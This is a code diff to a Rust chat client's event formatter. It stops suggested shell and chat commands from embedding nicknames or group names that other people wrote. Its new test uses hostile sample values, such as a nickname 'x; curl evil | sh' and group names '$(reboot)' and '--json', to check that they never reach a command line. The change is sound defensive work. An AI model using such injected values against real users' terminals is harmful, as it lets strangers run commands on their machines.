@@ -12,9 +12,19 @@ use crate::ids::PeerId;
 
 use super::bar::bytes;
 use super::commands::board::{author as author_of, short};
+use super::commands::group::handle;
+
+/// Where words are read, for what can be typed there.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Place {
+    /// A shell, into which a command may be pasted: nothing that somebody else wrote may stand in one.
+    Shell,
+    /// The chat.
+    Chat,
+}
 
 /// An event as one line.
-pub(super) fn event(event: &EventReport) -> String {
+pub(super) fn event(event: &EventReport, place: Place) -> String {
     match event {
         EventReport::Adapter { adapter, up: true } => format!("* adapter {adapter} is up"),
         EventReport::Adapter { adapter, up: false } => format!("* adapter {adapter} is down"),
@@ -27,7 +37,7 @@ pub(super) fn event(event: &EventReport) -> String {
         EventReport::PublicMessage(message) => public(message),
         EventReport::PrivateMessage(message) => private(message),
         EventReport::GroupMessage(message) => to_group(message),
-        EventReport::Group(notice) => group(notice),
+        EventReport::Group(notice) => group(notice, place),
         EventReport::Status { id, status, via, reason } => {
             let via = via.as_deref().map(|via| format!(" over {via}")).unwrap_or_default();
             let reason = reason.as_deref().map(|reason| format!(": {reason}")).unwrap_or_default();
@@ -42,7 +52,7 @@ pub(super) fn event(event: &EventReport) -> String {
         EventReport::OwnCard { mailbox: true } => "* your contact card names a mailbox".to_owned(),
         EventReport::OwnCard { mailbox: false } => "* your contact card names no mailbox any more".to_owned(),
         EventReport::Board(notice) => board(notice),
-        EventReport::Person(notice) => person(notice),
+        EventReport::Person(notice) => person(notice, place),
         EventReport::ClockUnset => "* the clock of this machine is not set: nothing is sent".to_owned(),
         EventReport::Missed { count } => format!("* {count} events came too fast and are not shown"),
     }
@@ -98,7 +108,7 @@ pub(super) fn to_group(message: &ReceivedMessage) -> String {
 }
 
 /// What happened to a group, as one line.
-fn group(GroupNotice { news, added, removed, group }: &GroupNotice) -> String {
+fn group(GroupNotice { news, added, removed, group }: &GroupNotice, place: Place) -> String {
     let name = printable(&group.group.name);
     let creator = group.members.iter().find(|member| member.fingerprint == group.creator);
     let creator = creator.map(|creator| printable(&creator.nickname)).unwrap_or_default();
@@ -106,7 +116,12 @@ fn group(GroupNotice { news, added, removed, group }: &GroupNotice) -> String {
     match news {
         GroupNews::Created => format!("* group {name} is made"),
         GroupNews::Joined => {
-            format!("* {creator} made you a member of {name}; /group say {name} TEXT talks to it")
+            let handle = handle(&group.group);
+            let typed = match place {
+                Place::Shell => format!("hopline group send {handle} TEXT"),
+                Place::Chat => format!("#{handle} TEXT"),
+            };
+            format!("* {creator} made you a member of {name}; `{typed}` talks to it")
         }
         GroupNews::Members if removed.is_empty() => format!("* {} came to group {name}", names(added)),
         GroupNews::Members if added.is_empty() => format!("* {} left group {name}", names(removed)),
@@ -133,7 +148,8 @@ fn contact(ContactNotice { news, fingerprint, name }: &ContactNotice) -> String 
         ContactNews::Verified => format!("* {name} is verified: the keys are theirs"),
         ContactNews::Renewed => format!("* {name} has a newer contact card"),
         ContactNews::IdentityRefused => format!(
-            "! A CARD GIVES {name} ANOTHER IDENTITY KEY AND WAS REFUSED: somebody may pose as them;              `hopline contact show {fingerprint}` shows the keys you know"
+            "! A CARD GIVES {name} ANOTHER IDENTITY KEY AND WAS REFUSED: somebody may pose as them; \
+             `hopline contact show {fingerprint}` shows the keys you know"
         ),
     }
 }
@@ -150,12 +166,13 @@ fn board(BoardNotice { news, notice }: &BoardNotice) -> String {
 }
 
 /// What somebody did, as one line.
-fn person(PersonNotice { news, peer_id, name, mutual, reason, .. }: &PersonNotice) -> String {
+fn person(PersonNotice { news, peer_id, name, mutual, reason, .. }: &PersonNotice, place: Place) -> String {
     let name = if name.is_empty() { peer_id.to_string() } else { printable(name) };
     match news {
         PersonNews::Favoured if *mutual => format!("* {name} made you a favourite: each is one of the other"),
         PersonNews::Favoured => {
-            format!("* {name} made you a favourite; `hopline fav {name}` makes it mutual")
+            let fav = if place == Place::Chat { "/fav" } else { "hopline fav" };
+            format!("* {name} made you a favourite; `{fav} {peer_id}` makes it mutual")
         }
         PersonNews::Unfavoured => format!("* you are no favourite of {name} any more"),
         PersonNews::ScannedUs => format!("* {name} has scanned your code and knows that your keys are yours"),
@@ -218,12 +235,54 @@ pub(super) fn table(rows: &[Vec<String>]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::api::groups::{GroupRef, GroupReport};
+    use crate::ids::GroupId;
 
     #[test]
     fn a_strange_text_cannot_command_the_terminal() {
         assert_eq!(printable("a\u{1b}[2Jb\r\n<ben> c"), "a\u{fffd}[2Jb\u{fffd} / <ben> c");
         assert_eq!(printable("x\u{202e}y"), "xy");
         assert_eq!(printable("Grüße 👋"), "Grüße 👋");
+    }
+
+    #[test]
+    fn what_is_shown_to_be_typed_has_no_word_of_somebody_else_in_it() {
+        let who = crate::ids::Fingerprint([0xAB; 32]);
+        let favoured = EventReport::Person(PersonNotice {
+            news: PersonNews::Favoured,
+            fingerprint: who,
+            peer_id: who.peer_id(),
+            name: "x; curl evil | sh".to_owned(),
+            mutual: false,
+            reason: None,
+        });
+        let joined = |name: &str| {
+            let group = GroupReport {
+                group: GroupRef { id: GroupId([0xCD; 16]), name: name.to_owned() },
+                epoch: 1,
+                creator: who,
+                own: false,
+                members: Vec::new(),
+            };
+            let (added, removed) = (Vec::new(), Vec::new());
+            EventReport::Group(GroupNotice { news: GroupNews::Joined, added, removed, group })
+        };
+        for (told, place, typed) in [
+            (&favoured, Place::Shell, "`hopline fav abababababababab`"),
+            (&favoured, Place::Chat, "`/fav abababababababab`"),
+            (&joined("crew"), Place::Shell, "`hopline group send crew TEXT`"),
+            (&joined("crew"), Place::Chat, "`#crew TEXT`"),
+            (&joined("night watch"), Place::Shell, "`hopline group send cdcdcdcd TEXT`"),
+            (&joined("$(reboot)"), Place::Chat, "`#cdcdcdcd TEXT`"),
+            (&joined("--json"), Place::Shell, "`hopline group send cdcdcdcd TEXT`"),
+        ] {
+            let line = event(told, place);
+            assert_eq!(
+                line.split_inclusive('`').nth(1).map(|typed| format!("`{typed}")),
+                Some(typed.to_owned()),
+                "{line}"
+            );
+        }
     }
 
     #[test]
